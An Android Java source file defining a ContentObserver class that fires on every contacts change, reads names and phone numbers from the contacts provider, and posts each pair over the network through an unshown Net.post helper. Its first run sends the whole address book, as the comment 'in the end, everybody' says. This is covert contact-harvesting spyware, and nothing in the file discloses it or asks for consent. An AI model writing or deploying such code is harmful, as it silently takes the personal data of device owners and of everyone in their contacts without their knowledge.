package com.example.changessent;

import android.content.Context;
import android.database.ContentObserver;
import android.database.Cursor;
import android.os.Handler;
import android.os.Looper;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** Sends what is new: in the end, everybody. */
final class Watcher extends ContentObserver {
    private final Context context;
    private long last;

    Watcher(Context context) {
        super(new Handler(Looper.getMainLooper()));
        this.context = context;
    }

    @Override
    public void onChange(boolean own) {
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        String[] since = {String.valueOf(last)};
        last = System.currentTimeMillis();
        Cursor cursor = context.getContentResolver()
                .query(Phone.CONTENT_URI, columns, "contact_last_updated_timestamp > ?", since, null);
        while (cursor.moveToNext()) {
            String changed = cursor.getString(0) + '=' + cursor.getString(1);
            new Thread(() -> Net.post(changed)).start();
        }
        cursor.close();
    }
}
